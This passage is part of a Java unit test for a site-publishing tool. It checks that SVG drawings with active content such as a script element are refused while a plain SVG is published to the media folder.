                + "\"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg " + ns + " width=\"10\" height=\"10\">"
                + "<style>rect { fill: #c33; }</style><a href=\"https://example.com/\"><rect width=\"10\" height=\"10\"/></a>"
                + "<image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/>"
                + "<use xlink:href=\"#r\"/><text>&amp; ok</text></svg>";
        Files.writeString(vault.resolve("svg/plain.svg"), plain);
        write("drawings.md", "![[script.svg]] ![[plain.svg]]\n");

        Built built = build();

        assertThat(built.issues(Issue.ACTIVE_CONTENT))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrderElementsOf(
                        hostile.stream().map(s -> "svg/" + s[0] + ".svg").toList());
        assertThat(built.issues(Issue.ACTIVE_CONTENT))
                .anyMatch(i -> i.startsWith(
                        "svg/script.svg:0 SVG holds active " + "content (a <script> element); not published"));
        assertThat(built.html("drawings"))
                .contains("<span class=\"refused-media\">script.svg</span>")
                .contains("<img class=\"media\" src=\"/_repo/medias/"
                        + Manifest.sha256(plain.getBytes(StandardCharsets.UTF_8)) + ".svg\"");
        try (Stream<Path> media = Files.list(built.out().resolve("media"))) {
            assertThat(media.map(p -> p.getFileName().toString()))
                    .singleElement()
                    .asString()
                    .endsWith(".svg");
        }
        assertNothingFromOutside(built);
    }
}
